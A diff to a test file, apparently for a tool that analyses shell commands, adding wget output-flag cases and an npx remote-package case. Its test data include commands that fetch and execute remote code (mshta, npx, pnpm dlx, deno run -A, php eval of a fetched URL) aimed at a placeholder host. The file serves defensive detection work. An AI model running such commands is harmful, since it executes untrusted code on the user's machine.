@@ -43,6 +43,8 @@ def test_output_tells_of_the_machine(expected: set[Taint], text: str) -> None:
         (["x"], "wget -qO x https://a.invalid/y"),
         (["x"], "wget -Ox https://a.invalid/y"),
         ([], "wget -qO- https://a.invalid/y"),
+        ([], "wget -O - https://a.invalid/y"),
+        (["x"], "wget -O x https://a.invalid/y -"),
         (["/tmp/y"], "wget -P /tmp https://a.invalid/y"),
         (["/tmp/y"], "curl --output-dir=/tmp -sO https://a.invalid/y"),
         (["y"], "wget https://a.invalid/y?z=1"),
@@ -63,6 +65,7 @@ def test_downloads_are_saved_into_files(expected: list[str], text: str) -> None:
     [
         ("https://a.invalid/x", "mshta https://a.invalid/x"),
         ("https://a.invalid/x.tgz", "npx --yes https://a.invalid/x.tgz"),
+        ("https://a.invalid/x.tgz", "npx --package=https://a.invalid/x.tgz run"),
         ("https://a.invalid/x.tgz", "pnpm dlx https://a.invalid/x.tgz"),
         ("https://a.invalid/x.ts", "deno run -A https://a.invalid/x.ts"),
         ("https://a.invalid/x", "php -r \"eval(file_get_contents('https://a.invalid/x'));\""),
